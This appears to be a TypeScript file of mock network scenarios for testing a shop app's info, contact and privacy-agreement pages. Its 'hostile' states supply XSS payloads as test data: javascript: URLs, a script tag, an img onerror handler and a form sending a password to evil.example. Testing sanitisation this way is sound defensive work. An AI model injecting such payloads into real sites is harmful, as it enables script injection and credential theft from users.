import { merchantStreet, recommendedProducts, signInMethods, site } from '@galleria/api';
import { respondWith, networkError, businessError } from '../network.ts';
import { scenario } from '../scenario.ts';
import { standardStates } from '../standardStates.ts';
import { wireSite } from '../wire/site.ts';

const guest = true;

/** The shop as it is, with another set-up of its customer service. */
const service = (change: Partial<ReturnType<typeof wireSite>>) => () => {
  const { market } = scenario({ guest })();
  return [respondWith(site, { ...wireSite(market.state), ...change })];
};

const noService = { consumerType: 'email', consumerH5Url: '', consumerHotline: '', consumerMessage: '', consumerEmail: '' } as const;

const ready = scenario({ guest });

/** States of the pages that tell about the shop. */
export const infoScenarios = {
  ready,
  notCounted: scenario({ guest, network: () => [businessError(merchantStreet, 500), networkError(recommendedProducts)] }),
};

/** States of the ways to reach the shop. */
export const contactUsScenarios = {
  ...standardStates({ endpoints: [site], ready }),
  noMailbox: scenario({
    guest,
    network: service({ consumerEmail: '', consumerMessage: 'We answer from 9 am to 6 pm.', consumerType: 'hotline' }),
  }),
  noService: scenario({ guest, network: service(noService) }),
  hostile: scenario({
    guest,
    network: service({
      consumerH5Url: 'javascript:alert(1)',
      consumerMessage: 'http://evil.example',
      consumerHotline: '+91 80 4718 2200 extension <b>7</b>',
      consumerEmail: `${'very.long.service.address.'.repeat(2)}of@${'subdomain.'.repeat(6)}galleria.example`,
    }),
  }),
};

/** States of the operator's agreement. */
export const privacyAgreementScenarios = {
  ...standardStates({
    endpoints: [signInMethods],
    ready,
    empty: scenario({ guest, network: () => [respondWith(signInMethods, { agreement: '' })] }),
    failure: 'The agreement is being changed. Try again in a minute.',
  }),
  hostile: scenario({
    guest,
    network: () => [
      respondWith(signInMethods, {
        agreement:
          '<h1>Agreement</h1><script>window.hacked=1</script><img src=x onerror="window.hacked=1"><p style="position:fixed;inset:0">Styled, and <a href="javascript:window.hacked=1">linked</a>.</p><form action="https://evil.example"><input name=password></form><p>Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft</p>',
      }),
    ],
  }),
};
